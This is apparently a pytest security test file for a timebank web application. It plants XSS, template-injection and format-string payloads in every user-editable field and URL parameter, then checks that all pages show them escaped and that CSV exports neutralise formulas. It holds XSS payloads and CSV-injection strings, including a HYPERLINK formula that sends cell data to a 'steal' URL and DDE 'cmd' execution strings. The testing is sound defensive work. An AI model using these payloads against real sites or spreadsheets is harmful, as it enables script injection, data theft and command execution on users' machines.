"""HTML injection: markup and template code typed into every free-text field a person can set comes back inert on
every page that shows it, for everyone who sees it; and a spreadsheet opening a CSV download runs no formula.

Each field gets its own payload (numbered, so that the page showing it is known) built from
``<script>alert(N)</script>``, ``"><img src=x onerror=alert(N)>``, ``</textarea><svg onload=alert(N)>``,
``[{{7*7}}]`` (template injection: never "[49]") and ``%(x)s{0}`` (format strings), as much as the field holds.
They go in through the use cases (names, neighbourhoods, likes and interests, languages, listings, every note and
reason of an exchange, thank-you notes, applications, coordinators' reasons, the community's and categories' names,
group events, partner keys, offline members, an email address) and through the forms whose answer repeats them
(a flash note after approving, adding, revoking, paying). Then every page of the web front (from the url_map, and
the pages of the objects holding payloads) is fetched by every role and by the people the payloads are about:
no page holds the payload as markup (no raw ``<script>alert``, ``<img src=x``, ``<svg onload``, no event handler
or inline script at all), none renders "[49]", none fails, and every payload is seen, escaped, somewhere.
Addresses carrying payloads in their query (searches, ``next``, months, cursors) are answered inert as well.
"""

from __future__ import annotations

import csv
import html
import io
from dataclasses import dataclass, field

import pytest

from tests.system.web_scene import Browser, Scene, get_addresses, page_parts, pages_in_every_state, scene_for
from tests.web.conftest import csrf_token
from tests.world import PASSWORD, add_user
from timebank import (
    communities,
    corrections,
    credentials,
    exchanges,
    listings,
    matching,
    members,
    payments,
    pot,
    reports,
)
from timebank.access import Actor

# Raw in a page, any of these is markup a browser would run or draw: the payload got out of its text.
MARKUP = ("<script>alert", "<img src=x", "<img/src=x", "<svg onload", "<svg/onload", "</textarea><svg")
TEMPLATE_RENDERED = ("[49]", "[7777777]")


def payload(number: int, maximum: int, *, spaces: bool = True, first: int = 0) -> str:
    """The parts that fit in ``maximum`` characters, starting with part ``first``."""
    parts = [
        f"<script>alert({number})</script>",
        f'"><img src=x onerror=alert({number})>',
        f"</textarea><svg onload=alert({number})>",
        "[{{7*7}}]",
        "%(x)s{0}",
    ]
    if not spaces:  # an email address: the same, with slashes where browsers accept them for spaces
        parts = [part.replace(" ", "/") for part in parts]
    text = ""
    for part in parts[first:] + parts[:first]:
        if len(text) + len(part) <= maximum:
            text += part
    return text


def marker(number: int) -> str:
    return f"alert({number})"


@dataclass
class Planted:
    """What holds a payload: field number → what it is; the addresses that show them; who else looks."""

    fields: dict[int, str] = field(default_factory=dict)
    addresses: list[str] = field(default_factory=list)
    browsers: dict[str, Browser] = field(default_factory=dict)
    # Fields that no page shows (kept for the audit log only): they must not be seen, so that this list is true.
    unshown: set[int] = field(default_factory=set)

    def text(self, number: int, name: str, maximum: int, **options) -> str:
        self.fields[number] = name
        return payload(number, maximum, **options)


def plant(scene: Scene) -> Planted:
    """A payload in every free-text field, through the use cases."""
    planted = Planted()
    world, db = scene.world, scene.db
    ans, bert, cor, coordinator = world.ans, world.bert, world.cor, world.coordinator
    community_id, slug = world.community_id, scene.slug
    klussen = world.categories["klussen"]
    run = db.run

    # The community and its categories; a partner key.
    run(
        communities.update_settings,
        actor=coordinator.actor,
        community_id=community_id,
        name=planted.text(24, "community name", 120),
    )
    run(
        communities.update_category,
        actor=coordinator.actor,
        community_id=community_id,
        category_id=klussen,
        name_en=planted.text(25, "category name (English)", 80, first=1),
        name_nl=planted.text(26, "category name (Dutch)", 80, first=2),
    )
    run(
        credentials.create_partner_key,
        actor=coordinator.actor,
        community_id=community_id,
        name=planted.text(28, "partner key name", 80, first=2),
        scopes=["listings:read"],
    )
    # Profiles: Ans's name starts with a script, Cor's with the end of a textarea; both show as first names.
    run(
        members.update_profile,
        actor=ans.actor,
        membership_id=ans.id,
        display_name=planted.text(1, "display name", 80),
        neighbourhood=planted.text(2, "neighbourhood", 80, first=1),
        likes_to_do=planted.text(3, "likes to do", 1000),
        languages=[planted.text(37, "a language", 40)],
        interests=[planted.text(38, "an interest (not a category)", 60, first=1)],
        visibility={"likes_to_do": True, "languages": True, "interests": True, "availability": True},
    )
    run(
        members.update_profile, actor=cor.actor, membership_id=cor.id, display_name=planted.text(5, "name", 80, first=2)
    )

    # A listing, a response, an invitation and its answer.
    listing = run(
        listings.post_listing,
        actor=ans.actor,
        community_id=community_id,
        kind="request",
        title=planted.text(6, "listing title", 120),
        description=planted.text(7, "listing description", 2000),
        neighbourhood=planted.text(8, "listing neighbourhood", 80, first=2),
        category_id=klussen,
        estimated_minutes=60,
    )
    responded = run(
        exchanges.respond_to_listing,
        actor=bert.actor,
        listing_id=listing.id,
        message=planted.text(9, "response message", 500, first=1),
    )
    request = scene.request_by(bert)
    invitation = run(matching.invite_member, actor=bert.actor, listing_id=request, membership_id=ans.id)
    open_request = scene.request_by(bert)
    run(
        matching.invite_member,
        actor=bert.actor,
        listing_id=open_request,
        membership_id=ans.id,
        message=planted.text(10, "invitation message", 500),
    )
    accepted = run(
        exchanges.accept_invitation,
        actor=ans.actor,
        invitation_id=invitation.id,
        message=planted.text(11, "answer to an invitation", 500, first=2),
    )
    # Recorded with a note, then disputed; another called off; another thanked for (Cor helped Ans).
    disputed = scene.exchange("agreed")
    run(
        payments.record_minutes,
        actor=bert.actor,
        exchange_id=disputed,
        minutes=20,
        note=planted.text(12, "note on the recorded time", 500),
    )
    run(
        payments.dispute_exchange,
        actor=ans.actor,
        exchange_id=disputed,
        reason=planted.text(13, "dispute reason", 500, first=1),
    )
    cancelled = scene.exchange("agreed")
    run(
        exchanges.cancel_exchange,
        actor=ans.actor,
        exchange_id=cancelled,
        reason=planted.text(14, "cancel reason", 500, first=2),
    )
    thanked = run(exchanges.respond_to_listing, actor=cor.actor, listing_id=scene.request_by(ans)).id
    run(exchanges.agree_exchange, actor=ans.actor, exchange_id=thanked)
    run(payments.record_minutes, actor=cor.actor, exchange_id=thanked, minutes=15)
    run(payments.confirm_exchange, actor=ans.actor, exchange_id=thanked)
    run(exchanges.thank_helper, actor=ans.actor, exchange_id=thanked, text=planted.text(15, "thank-you note", 1000))
    settled = scene.exchange("recorded")
    run(payments.dispute_exchange, actor=ans.actor, exchange_id=settled, reason="Not 5 minutes.")
    run(
        payments.settle_dispute,
        actor=coordinator.actor,
        exchange_id=settled,
        outcome="void",
        reason=planted.text(23, "settlement reason", 500, first=3),
    )
    paid = run(
        payments.pay_directly,
        actor=ans.actor,
        payee_membership_id=cor.id,
        minutes=10,
        description=planted.text(16, "payment description", 500, first=1),
    )
    on_behalf = run(
        payments.record_on_behalf,
        actor=coordinator.actor,
        helper_membership_id=bert.id,
        helped_membership_id=cor.id,
        minutes=10,
        attested=True,
        description=planted.text(34, "description recorded on behalf", 500, first=2),
        reason=planted.text(35, "reason for recording on behalf", 500),
    )

    # The pot: a gift, a grant, a group event; a reversal.
    run(
        pot.donate_to_pot,
        actor=coordinator.actor,
        community_id=community_id,
        minutes=30,
        note=planted.text(31, "note with a gift to the pot", 200),
    )
    run(
        pot.grant_from_pot,
        actor=coordinator.actor,
        community_id=community_id,
        membership_id=ans.id,
        minutes=5,
        reason=planted.text(32, "reason for a grant", 500, first=1),
    )
    run(
        pot.group_event,
        actor=coordinator.actor,
        community_id=community_id,
        event_name=planted.text(27, "group event name", 120, first=2),
        participant_ids=[ans.id, cor.id],
        minutes_each=5,
        source="issuance",
    )
    payment = db.read(exchanges.get_exchange, actor=ans.actor, exchange_id=paid.id).exchange
    run(
        corrections.reverse_transaction,
        actor=coordinator.actor,
        community_id=community_id,
        transaction_id=payment.ledger_transaction_id,
        reason=planted.text(33, "reason for a reversal", 500, first=3),
    )

    # Newcomers: an applicant (name, note, email), one declined with a reason; a member suspended, limits changed.
    eva_email = "eva" + planted.text(36, "email address", 200, spaces=False) + "@example.org"
    eva = run(
        members.register_and_apply,
        email=eva_email,
        password=PASSWORD + " eva",
        community_id=community_id,
        display_name=planted.text(18, "applicant's name", 80, first=1),
        note=planted.text(17, "application note", 1000),
    )
    fay_user = add_user(db)
    fay = run(members.apply_to_join, actor=Actor.for_user(fay_user), community_id=community_id, display_name="Fay")
    run(
        members.decline_member,
        actor=coordinator.actor,
        membership_id=fay.id,
        reason=planted.text(19, "reason for declining", 500, first=2),
    )
    run(
        members.suspend_member,
        actor=coordinator.actor,
        membership_id=scene.dora.id,
        reason=planted.text(20, "reason for suspending", 500),
    )
    run(
        members.set_member_limits,
        actor=coordinator.actor,
        membership_id=bert.id,
        floor_minutes=-900,
        ceiling_minutes=3000,
        reason=planted.text(22, "reason for new limits", 500, first=1),
    )
    offline = run(
        members.add_offline_member,
        actor=coordinator.actor,
        community_id=community_id,
        display_name=planted.text(29, "offline member's name", 80, first=3),
        neighbourhood=planted.text(30, "offline member's neighbourhood", 80, first=1),
    )
    # Kept in the audit log for coordinators' questions; no page shows them (yet).
    planted.unshown = {22, 35}

    for name, email, password in (
        ("declined", fay_user.email, PASSWORD),
        ("suspended", scene.dora.user.email, PASSWORD),
        ("eva", eva_email, PASSWORD + " eva"),
    ):
        browser = Browser(client=scene.app.test_client(), email=email)
        page = browser.client.get("/login").get_data(as_text=True)
        answer = browser.client.post(
            "/login", data={"email": email, "password": password, "csrf_token": csrf_token(page)}
        )
        assert answer.status_code == 302, name
        browser.refresh_token()
        planted.browsers[name] = browser

    exchange_ids = [responded.id, accepted.id, disputed, cancelled, thanked, settled, paid.id, on_behalf.id]
    people = [ans.id, bert.id, cor.id, scene.dora.id, eva.id, fay.id, offline.id]
    planted.addresses = [
        f"/c/{slug}/listings/{listing.id}",
        f"/c/{slug}/listings/{request}",
        f"/c/{slug}/listings/{open_request}",
        f"/c/{slug}/listings/{listing.id}/edit",
        *(f"/c/{slug}/exchanges/{number}" for number in exchange_ids),
        *(f"/c/{slug}/coordinate/members/{number}" for number in people),
        *(f"/c/{slug}/coordinate/members/{number}/statement" for number in people),
        f"/c/{slug}/coordinate/categories/{klussen}",
        f"/c/{slug}/coordinate/reverse?member={ans.id}",
        f"/c/{slug}/coordinate/reverse?transaction={payment.ledger_transaction_id}",
        f"/c/{slug}/listings?kind=request",
        f"/c/{slug}/coordinate/members?status=suspended",
        f"/c/{slug}/coordinate/members?status=declined",
    ]
    return planted


@pytest.fixture(scope="module")
def scene(database_kind, tmp_path_factory):
    yield from scene_for(database_kind, tmp_path_factory.mktemp("injection"))


@pytest.fixture(scope="module")
def planted(scene) -> Planted:
    return plant(scene)


def injection_problems(response) -> list[str]:
    """Where a payload got out of its text on one answer."""
    problems = []
    if response.status_code >= 500:
        problems.append(f"answered {response.status_code}")
    body = response.get_data(as_text=True)
    if response.mimetype != "text/html":
        return problems
    problems += [f"raw {found!r}" for found in MARKUP if found in body]
    problems += page_parts(body).problems
    text = html.unescape(body)
    problems += [f"template code ran: {found}" for found in TEMPLATE_RENDERED if found in text]
    return problems


def seen_markers(response, numbers) -> set[int]:
    if response.mimetype != "text/html":
        return set()
    text = html.unescape(response.get_data(as_text=True))
    return {number for number in numbers if marker(number) in text}


def test_every_payload_is_inert_on_every_page_for_everyone(scene, planted):
    addresses = sorted(set(get_addresses(scene) + pages_in_every_state(scene) + planted.addresses))
    browsers = {**scene.browsers, **planted.browsers}
    problems, seen, answers = {}, set(), 0
    for role, browser in browsers.items():
        for address in addresses:
            response = browser.get(address)
            answers += 1
            found = injection_problems(response)
            if found:
                problems[f"{address} as {role} ({response.status_code})"] = found
            seen |= seen_markers(response, planted.fields)
    assert not problems, problems
    unseen = {number: planted.fields[number] for number in planted.fields if number not in seen}
    assert set(unseen) == planted.unshown, f"payloads no page showed: {unseen}"
    assert len(planted.fields) >= 35
    print(
        f"HTML injection: {len(planted.fields)} fields, {len(addresses)} addresses x {len(browsers)} people = "
        f"{answers} answers, every payload inert; {len(seen)} fields seen escaped"
    )


def test_forms_that_repeat_what_was_typed_repeat_it_inert(scene, planted):
    """The answers of forms that say a name back (a flash note, a form shown again) after a redirect."""
    slug, coordinator, member = scene.slug, scene.browsers["coordinator"], scene.browsers["member"]
    applicant = scene.new_applicant()
    key = scene.partner_key()
    answers = {
        "approving": coordinator.post(f"/c/{slug}/coordinate/applicants/{applicant}/approve", follow_redirects=True),
        "adding an offline member": coordinator.post(
            f"/c/{slug}/coordinate/members/offline",
            data={
                "display_name": payload(41, 80),
                "neighbourhood": payload(42, 80, first=2),
                "preferred_language": "nl",
            },
            follow_redirects=True,
        ),
        "adding a category": coordinator.post(
            f"/c/{slug}/coordinate/categories",
            data={"name_en": payload(43, 80), "name_nl": payload(44, 80, first=1), "slug": "nieuw"},
            follow_redirects=True,
        ),
        "a new partner key": coordinator.post(
            f"/c/{slug}/coordinate/partner-keys",
            data={"name": payload(45, 80, first=2), "scopes": "listings:read"},
            follow_redirects=True,
        ),
        "revoking a key": coordinator.post(f"/c/{slug}/coordinate/partner-keys/{key}/revoke", follow_redirects=True),
        "paying Cor": member.post(
            f"/c/{slug}/pay",
            data={"member": str(scene.world.cor.id), "duration-hours": "0", "duration-minutes": "5"},
            follow_redirects=True,
        ),
        "a listing refused, shown again": member.post(
            f"/c/{slug}/listings/new",
            data={"kind": "request", "title": payload(46, 120), "description": payload(47, 2000, first=2)},
        ),
        "a search": member.get(f"/c/{slug}/listings", query_string={"text": payload(48, 100)}),
    }
    problems = {name: injection_problems(answer) for name, answer in answers.items()}
    assert not {name: found for name, found in problems.items() if found}, problems
    assert all(answer.status_code == 200 for answer in answers.values()), {
        name: answer.status_code for name, answer in answers.items()
    }
    shown = set().union(*(seen_markers(answer, range(40, 49)) for answer in answers.values()))
    assert {41, 43, 45, 46, 48} <= shown, shown


QUERY_NAMES = (
    "text",
    "name",
    "search",
    "next",
    "month",
    "transaction",
    "member",
    "before",
    "after",
    "log_before",
    "cursor",
    "kind",
    "category",
    "neighbourhood",
    "status",
    "order",
    "page",
    "start",
    "end",
    "helper",
)


def test_what_an_address_carries_is_shown_inert(scene, planted):
    """Every page with every query parameter a page reads set to a payload (reflected injection), and addresses
    whose path holds one: answered without markup and without failing."""
    query = {name: payload(60 + index, 200, first=index % 5) for index, name in enumerate(QUERY_NAMES)}
    addresses = get_addresses(scene) + [
        f"/c/{payload(90, 200)}/listings",
        f"/c/{scene.slug}/{payload(91, 200)}",
        f"/password/reset/{payload(92, 200)}",
        "/login?next=" + payload(93, 200),
    ]
    problems, answers = {}, 0
    for role in ("anonymous", "member", "coordinator", "officer", "administrator"):
        browser = scene.browsers[role]
        for address in addresses:
            response = browser.get(address, query_string=query) if "?" not in address else browser.get(address)
            answers += 1
            found = injection_problems(response)
            if found:
                problems[f"{address} as {role} ({response.status_code})"] = found
    assert not problems, problems
    assert answers >= 45 * 5


# --- CSV: formulas -----------------------------------------------------------------------------------------------

FORMULAS = {
    "equals": '=HYPERLINK("http://example.org/steal?"&A1,"Klik")',
    "plus": "+SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)",
}


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def formula_cells(found: list[str]) -> list[str]:
    """Cells a spreadsheet would read as a formula: starting with = + - @ (or tab, CR), other than numbers."""
    return [
        cell for cell in found if cell.startswith(reports.FORMULA_STARTS) and not reports.NUMBER_PATTERN.match(cell)
    ]


@pytest.mark.parametrize("value", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", *FORMULAS.values()])
def test_a_cell_starting_like_a_formula_is_text(value):
    assert reports.safe_cell(value) == "'" + value
    assert not formula_cells([reports.safe_cell(value)])


@pytest.mark.parametrize("value", ["-45", "+3", "12", "-2:30", "2:30", "Ans de Vries", "", "exchange: =1"])
def test_numbers_hours_and_plain_text_stay_as_they_are(value):
    assert reports.safe_cell(value) == value


def test_csv_downloads_neutralise_formulas_in_names_and_descriptions(scene):
    """The other community's name, its categories' names and payment descriptions start like formulas; the
    funder report and the statement, downloaded from the pages, hold them as text."""
    other, db = scene.other, scene.db
    coordinator = other.coordinator
    slug = other.community.slug
    db.run(
        communities.update_settings, actor=coordinator.actor, community_id=other.community_id, name=FORMULAS["equals"]
    )
    used = []
    for key, category in (("plus", "klussen"), ("minus", "boodschappen"), ("at", "vervoer")):
        db.run(
            communities.update_category,
            actor=coordinator.actor,
            community_id=other.community_id,
            category_id=other.categories[category],
            name_en=FORMULAS[key],
            name_nl=FORMULAS[key],
        )
        db.run(
            payments.pay_directly,
            actor=other.ans.actor,
            payee_membership_id=other.bert.id,
            minutes=5,
            category_id=other.categories[category],
            description=FORMULAS[key],
        )
        used.append(FORMULAS[key])
    report = scene.browsers["other_coordinator"].get(f"/c/{slug}/coordinate/report.csv")
    statement = scene.browsers["other_member"].get(f"/c/{slug}/statement.csv")
    for name, answer in (("funder report", report), ("statement", statement)):
        assert answer.status_code == 200 and answer.mimetype == "text/csv", name
        found = cells(answer.get_data(as_text=True))
        assert not formula_cells(found), (name, formula_cells(found))
    report_cells = cells(report.get_data(as_text=True))
    assert "'" + FORMULAS["equals"] in report_cells
    assert {"'" + value for value in used} <= set(report_cells), report_cells
    statement_text = statement.get_data(as_text=True)
    assert all(value in statement_text for value in used)  # after the kind of entry, where they cannot run
